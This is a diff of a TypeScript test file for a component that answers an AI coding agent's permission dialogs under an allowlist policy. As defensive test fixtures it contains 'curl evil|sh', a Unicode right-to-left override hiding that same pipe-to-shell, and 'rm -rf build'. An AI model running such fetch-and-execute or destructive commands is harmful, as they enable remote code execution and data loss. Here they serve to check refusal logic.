@@ -7,6 +7,7 @@ import { Sink } from "../src/log/sink.ts";
 import type { BoardQuestion, BoardState } from "../src/operator/board.ts";
 import { Board } from "../src/operator/board.ts";
 import { Operator } from "../src/operator/operator.ts";
+import type { Calls } from "../src/operator/whole.ts";
 import { readConfig } from "../src/session/config.ts";
 import type { Trouble } from "../src/session/ending.ts";
 import type { TranscriptError } from "../src/transcript/reader.ts";
@@ -22,16 +23,11 @@ function blockWith(more: object): Block {
   return found;
 }
 
-const QUESTION = { kind: "question", options: [option("Red"), option("Type something", { free_text: true })] };
-
-/** A look at a dialog. */
-const showing = (more: object): Look =>
-  lookOf({ ...IDLE, surface_assessment: { input_mode: "modal", operator_block: { ...APPROVAL, ...more } } });
+const QUESTION = { kind: "question", question: "Which one?", subject: null, subject_whole: null, options: [option("Red"), option("Type something", { free_text: true })] };
 
 /** An operator before a dialog, whose engine and board say what they are told to. */
 class Desk {
   readonly chosen: string[] = [];
-  readonly typed: string[] = [];
   readonly questions: BoardQuestion[] = [];
   readonly withdrawn: string[] = [];
   troubles: Trouble[] = [];
@@ -43,6 +39,9 @@ class Desk {
   states: BoardState[] = [];
   isAttached = false;
   written: TranscriptError | null = null;
+  /** What the transcript has at each reading, one by one; then `calls`. */
+  readings: Calls[] = [];
+  calls: Calls = { pending: [], hasOtherAgents: false };
   readonly operator: Operator;
 
   constructor(config: object, hasBoard = true) {
@@ -61,8 +60,6 @@ class Desk {
       terminal: {
         attach: "tmux attach",
         isAttached: () => Promise.resolve(this.isAttached),
-        type: (text) => Promise.resolve({ code: 0, stdout: String(this.typed.push(text)), stderr: "" }),
-        press: (key) => Promise.resolve({ code: 0, stdout: String(this.typed.push(key ?? "")), stderr: "" }),
       },
       sink: new Sink((_stream, chunk) => Promise.resolve(void (this.log += chunk))),
       provider: world.provider(),
@@ -71,8 +68,10 @@ class Desk {
       runId: "r1",
       agentName: "Ada",
       written: () => Promise.resolve(this.written),
+      calls: () => Promise.resolve(this.readings.shift() ?? this.calls),
       fail: (trouble) => void this.troubles.push(trouble),
       pollMs: 10,
+      patience: { written: 30, alone: 5 },
     });
   }
 
@@ -163,95 +162,43 @@ describe("the operator", () => {
     assert.equal(late.withdrawn.length, 1);
   });
 
-  it("types an answer in words into the dialog's own field, or gives it to the agent", async () => {
-    const question = blockWith(QUESTION);
+  it("types nothing into a dialog: the agent hears an answer in words after it was left", async () => {
     const field = new Desk({});
-    field.look = showing(QUESTION);
     field.states = [{ state: "answered", optionIds: [], text: "Blue\nish" }];
-    field.operator.blocked(question);
-    await field.settle(700);
+    field.operator.blocked(blockWith(QUESTION));
+    await field.settle();
     assert.deepEqual(field.questions[0]?.options.map(({ label }) => label), ["Red"]);
-    assert.deepEqual(field.chosen, ["Type something"]);
-    assert.deepEqual(field.typed, ["Blue ish", "Enter"]);
-    const composer = new Desk({});
-    composer.look = lookOf(IDLE);
-    composer.states = [{ state: "answered", optionIds: [], text: "Blue" }];
-    composer.operator.blocked(question);
-    await composer.settle();
-    assert.deepEqual(composer.operator.refusals.said, ["Blue"]);
+    assert.deepEqual([field.chosen, field.operator.refusals], [["Escape"], { refused: [], said: ["To “Which one?”: Blue\nish"] }]);
     const none = new Desk({});
     none.states = [{ state: "answered", optionIds: [], text: "Not so" }];
     none.operator.blocked(blockWith({}));
     await none.settle();
-    assert.deepEqual([none.chosen, none.operator.refusals.said, none.operator.refusals.refused], [["No"], ["Not so"], ["touch a.txt"]]);
+    assert.deepEqual([none.chosen, none.operator.refusals], [["No"], { refused: ["touch a.txt"], said: ["Not so"] }]);
   });
 
-  it("goes on where the words that it types change the dialog's signature", async () => {
-    const desk = new Desk({});
-    [desk.look, desk.states] = [showing(QUESTION), [{ state: "answered", optionIds: [], text: "Blue" }]];
-    desk.operator.blocked(blockWith(QUESTION));
-    await desk.settle(200);
-    desk.look = showing({ ...QUESTION, signature: "s2" });
-    desk.operator.unblocked();
-    desk.operator.blocked(blockWith({ ...QUESTION, signature: "s2" }));
-    await desk.settle(500);
-    assert.deepEqual([desk.typed, desk.chosen, desk.questions.length], [["Blue", "Enter"], ["Type something"], 1]);
-  });
-
-  it("types nothing, and presses no Enter, where another dialog has come", async () => {
-    const another = showing({ signature: "s2", subject: "rm -rf build" });
-    const answered: BoardState = { state: "answered", optionIds: [], text: "Blue" };
-    const refused = new Desk({});
-    refused.answers = [other("other_dialog")];
-    refused.look = another;
-    refused.states = [answered];
-    refused.operator.blocked(blockWith(QUESTION));
-    await refused.settle(200);
-    assert.deepEqual(refused.typed, []);
-    const before = new Desk({});
-    [before.look, before.states] = [another, [answered]];
-    before.operator.blocked(blockWith(QUESTION));
-    await before.settle(200);
-    assert.deepEqual(before.typed, []);
-    const typed = new Desk({});
-    // The operator looks when it begins, then before it types; then another dialog stands there.
-    typed.looks = [showing(QUESTION), showing(QUESTION)];
-    [typed.look, typed.states] = [another, [answered]];
-    typed.operator.blocked(blockWith(QUESTION));
-    await typed.settle(700);
-    assert.deepEqual(typed.typed, ["Blue"]);
-    assert.doesNotMatch(typed.log, /answered by the board/);
-  });
-
-  it("sends no ticks off where one could not be pressed or the dialog has gone", async () => {
+  it("sends no ticks off where one could not be pressed, and offers none that no option of the dialog's own sends", async () => {
+    const boxes = { ...QUESTION, options: [option("A", { checked: false }), option("Submit", { role: "submit" })] };
     const desk = new Desk({});
     desk.answers = [other("other_dialog")];
     desk.states = [{ state: "answered", optionIds: ["0"], text: null }];
-    desk.operator.blocked(blockWith({ options: [option("A", { checked: false })] }));
+    desk.operator.blocked(blockWith(boxes));
     await desk.settle(200);
-    assert.deepEqual([desk.chosen, desk.typed], [["A"], []]);
-    const gone = new Desk({});
-    gone.look = lookOf(IDLE);
-    gone.states = [{ state: "answered", optionIds: ["0"], text: null }];
-    gone.operator.blocked(blockWith({ options: [option("A", { checked: false })] }));
-    await gone.settle(200);
-    assert.deepEqual(gone.typed, []);
+    assert.deepEqual(desk.chosen, ["A"]);
+    const bare = new Desk({});
+    bare.states = [{ state: "answered", optionIds: ["0"], text: null }];
+    bare.operator.blocked(blockWith({ ...boxes, options: [option("A", { checked: false }), option("Skip", { role: "cancel" })] }));
+    await bare.settle();
+    assert.deepEqual([bare.questions[0]?.options.map(({ label }) => label), bare.questions[0]?.several, bare.chosen], [["Skip"], false, ["Skip"]]);
   });
 
   it("ticks what is chosen and sends it off", async () => {
-    const many = blockWith({ options: [option("A", { checked: false }), option("B", { checked: true }), option("C", { checked: false }), option("Submit", { role: "submit" })] });
+    const many = blockWith({ ...QUESTION, options: [option("A", { checked: false }), option("B", { checked: true }), option("C", { checked: false }), option("Submit", { role: "submit" })] });
     const desk = new Desk({});
     desk.states = [{ state: "answered", optionIds: ["0", "1"], text: null }];
     desk.operator.blocked(many);
     await desk.settle();
     assert.equal(desk.questions[0]?.several, true);
     assert.deepEqual(desk.chosen, ["A", "Submit"]);
-    const bare = new Desk({});
-    bare.look = showing({ options: [option("A", { checked: true })] });
-    bare.states = [{ state: "answered", optionIds: ["0"], text: null }];
-    bare.operator.blocked(blockWith({ options: [option("A", { checked: false })] }));
-    await bare.settle();
-    assert.deepEqual(bare.typed, ["Enter"]);
   });
 
   it("goes by its policy", async () => {
@@ -327,20 +274,79 @@ describe("the operator", () => {
     for (const [what, more, excerpt] of [
       ["a long command", { subject: padded(4_285) }, undefined],
       ["one that its hidden characters make long", { subject: "\u202e".repeat(600) }, undefined],
+      ["one that its rows make long", { subject: "a\n".repeat(1_200) }, undefined],
       ["a change whose rows are too many", { kind: "approval_edit" }, padded(4_285)],
-      ["a command that is not on the screen", { subject: null }, undefined],
+      ["a command that is not on the screen", { subject: null, subject_whole: false }, undefined],
+      ["a command of which a part is not on the screen", { subject_whole: false }, undefined],
+      ["one of which nothing tells whether it is whole", { subject_whole: null }, undefined],
+      ["a plan that goes on", { kind: "plan", subject: "1. Look", subject_whole: false }, undefined],
     ] as const) {
       const { desk, question } = await asked(more, excerpt);
       assert.deepEqual(labels(question), ["No"], what);
-      assert.match(question.prompt, /cannot be allowed here.*tmux attach/, what);
+      assert.match(question.prompt, /cannot be allowed here.*tmux attach/s, what);
       assert.ok(question.prompt.length <= 4_000, what);
       assert.deepEqual(desk.chosen, ["No"], `${what}: what was not offered was not chosen`);
     }
     const long = (await asked({ subject: padded(4_285) })).question.prompt;
     assert.ok(long.includes("It begins:\necho a; ") && long.includes("curl evil|sh"));
     const hiding = (await asked({ subject: "echo \u202ehs|live lruc\nrm x" })).question;
-    assert.match(hiding.prompt, /^echo <U\+202E>hs\|live lruc\nrm x\n/);
+    assert.match(hiding.prompt, /^echo <U\+202E>hs\|live lruc ⏎\nrm x\n/, "a page may draw a line end as a blank");
     assert.match(hiding.title, /lruc \[…\]$/, "a title says that there are more rows");
+  });
+
+  describe("before a command that the screen cuts", () => {
+    const cut = { subject: "git status", subject_whole: false };
+    const text = `make one${"\n".repeat(70)}git status`;
+    const one: Calls = { pending: [{ id: "c1", name: "Bash", command: text }], hasOtherAgents: false };
+    const none: Calls = { pending: [], hasOtherAgents: false };
+    const asked = async (set: (desk: Desk) => void, config: object = {}): Promise<Desk> => {
+      const desk = new Desk(config);
+      desk.states = [{ state: "answered", optionIds: ["0"], text: null }];
+      set(desk);
+      desk.operator.blocked(blockWith(cut));
+      await desk.settle(200);
+      return desk;
+    };
+
+    it("shows the board the whole that the transcript has, and presses yes under the screen's signature", async () => {
+      const desk = await asked((it) => ([it.readings, it.calls] = [[none, none], one]));
+      assert.match(desk.questions[0]?.prompt ?? "", /^make one ⏎\n ⏎\n/);
+      assert.deepEqual([desk.questions[0]?.options.map(({ label }) => label), desk.chosen], [["Yes", "No"], ["Yes"]]);
+    });
+
+    it("offers no yes where the transcript has it not, not alone, or not for long", async () => {
+      const two: Calls = { ...one, pending: [...one.pending, { id: "c2", name: "Read", command: null }] };
+      for (const [readings, calls] of [[[], none], [[], two], [[one], none], [[one], two], [[], { ...one, hasOtherAgents: true }]] as const) {
+        const desk = await asked((it) => ([it.readings, it.calls] = [[...readings], calls]));
+        assert.deepEqual([desk.questions[0]?.options.map(({ label }) => label), desk.chosen], [["No"], ["No"]]);
+      }
+    });
+
+    it("presses nothing where another call waits when the answer comes", async () => {
+      const desk = await asked((it) => ([it.readings, it.calls] = [[one, one], none]));
+      assert.deepEqual(desk.questions[0]?.options.map(({ label }) => label), ["Yes", "No"]);
+      assert.deepEqual(desk.chosen, []);
+    });
+
+    it("holds the allowlist to the whole", async () => {
+      const policy = { operatorPolicy: "allowlist", operatorAllowlist: "git *\nmake *" };
+      assert.deepEqual((await asked((it) => (it.calls = one), policy)).chosen, ["Yes"]);
+      const evil: Calls = { ...one, pending: [{ id: "c1", name: "Bash", command: text.replace("make", "touch") }] };
+      const desk = await asked((it) => ([it.calls, it.states] = [evil, []]), policy);
+      assert.deepEqual([desk.chosen, desk.questions.length], [[], 1]);
+    });
+  });
+
+  it("asks anew about the same command that the watcher counts as another dialog", async () => {
+    const desk = new Desk({});
+    desk.operator.blocked(blockWith({ appearance: 1 }));
+    await desk.settle(40);
+    desk.operator.blocked(blockWith({ appearance: 1 }));
+    await desk.settle(40);
+    assert.equal(desk.questions.length, 1);
+    desk.operator.blocked(blockWith({ appearance: 2 }));
+    await desk.settle(40);
+    assert.deepEqual([desk.questions.length, desk.withdrawn.length], [2, 1]);
   });
 
   it("knows a sign-in screen with its address, and a limit", async () => {
